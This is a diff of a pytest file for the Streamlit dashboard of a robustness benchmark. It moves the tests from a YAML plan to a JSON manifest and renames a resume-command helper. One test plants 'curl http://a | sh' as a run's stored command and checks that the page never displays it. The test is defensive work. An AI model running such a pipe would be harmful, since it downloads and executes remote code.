@@ -16,12 +16,13 @@ import psutil
 import pytest
 from streamlit.testing.v1 import AppTest
 
+from benchmarks.support.manifests import rewrite
 from robustbench_sgdm import corruption, tables
 from robustbench_sgdm.core import escaping, resources
 from robustbench_sgdm.core.constants import METRICS
 from robustbench_sgdm.core.errors import RobustBenchError, UsageError
 from robustbench_sgdm.dashboard import inference, jobs, run_images, uploads
-from robustbench_sgdm.store import Run, repeat_command
+from robustbench_sgdm.store import Run, resume_command
 
 APP = resources.root() / "app"
 made_run = resources.import_file(resources.root() / "benchmarks/support/made_run.py")
@@ -57,7 +58,7 @@ def test_the_runs_and_what_is_wrong_with_some(page: Callable[..., AppTest], proj
     assert not shown.exception and shown.selectbox(key="run").value == "complete"
     assert shown.selectbox(key="run").options == ["complete", "unfinished", "old", "torn"]
     assert "No verdict yet" in said(shown) and len(shown.dataframe[0].value) == 2
-    for name, words in (("old", "schema 99"), ("torn", "damaged"), ("unfinished", "cells are complete")):
+    for name, words in (("old", "schema 99"), ("torn", "not valid"), ("unfinished", "cells are complete")):
         shown = shown.selectbox(key="run").select(name).run()
         assert not shown.exception and words in said(shown).replace("\\", "")
 
@@ -66,7 +67,7 @@ def test_numbers_are_those_of_the_store(page: Callable[..., AppTest], project: P
     shown = page("--project", project)
     table = shown.dataframe[0].value.set_index("model")
     results = complete.results()
-    for model in complete.plan["models"]:
+    for model in complete.manifest.models:
         own = results[results["model"] == model]
         clean = own.loc[own["corruption"] == "clean", "AP"].item()
         noisy = own[own["corruption"] != "clean"].groupby("corruption")["AP"].mean().mean()
@@ -90,11 +91,15 @@ def test_an_unfinished_run_says_what_makes_the_rest(
     path = shutil.copytree(project / "unfinished", tmp_path / "r")
     shown = page("--", path)
     assert not shown.exception and not shown.code and "does not say which command" in said(shown)
-    text = (path / "plan.yaml").read_text().replace("weights: none", "weights: embedded")
-    text = text.replace("source: made\n", "source: scenes\n", 1).replace("name: made\n", "name: scenes\n")
-    (path / "plan.yaml").write_text(text.replace("command: robustbench run", "command: curl http://a | sh"))
+    run = Run.open(path)
+    rewrite(
+        run,
+        command="curl http://a | sh",
+        models={model: {"weights": "embedded"} for model in run.manifest.models},
+        data={"name": "scenes", "source": "scenes"},
+    )
     shown = page("--", path)
-    assert not shown.exception and shown.code[0].value == repeat_command(Run.open(path))
+    assert not shown.exception and shown.code[0].value == resume_command(Run.open(path))
     assert "--data scenes" in shown.code[0].value and "curl" not in said(shown)
     with Run.open(path).lock():
         shown = shown.run()
@@ -189,9 +194,8 @@ def test_an_address_may_say_a_family_as_the_plan_does(
 ) -> None:
     """The page's own addresses have it with the escapes of Markdown."""
     path = shutil.copytree(project / "complete", tmp_path / "r")
-    family = next(iter(Run.open(path).plan["corruptions"].values()))["family"]
-    plan = (path / "plan.yaml").read_text()
-    (path / "plan.yaml").write_text(plan.replace(f"family: {family}", "family: my_own"))
+    run = Run.open(path)
+    rewrite(run, corruptions={next(iter(run.manifest.corruptions)): {"family": "my_own"}})
     for address in ("my_own", "my\\_own"):
         shown = page("--", path, family=address)
         assert not shown.exception and "which is not available" not in said(shown)
@@ -216,9 +220,11 @@ def test_a_damaged_cell_is_words_not_a_traceback(
         file.write_text('{"key": "torn')
     shown = page("--", path)
     assert not shown.exception and "cells are complete" in said(shown)
-    (path / "plan.yaml").write_text((path / "plan.yaml").read_text().replace("images: 12", "image: 12"))
+    (path / "manifest.json").write_text(
+        (path / "manifest.json").read_text().replace('"images": 12', '"image": 12')
+    )
     shown = page("--", path)
-    assert not shown.exception and "is damaged" in said(shown).replace("\\", "")
+    assert not shown.exception and "is not valid" in said(shown).replace("\\", "")
 
 
 def broken(needs_run: bool) -> None:
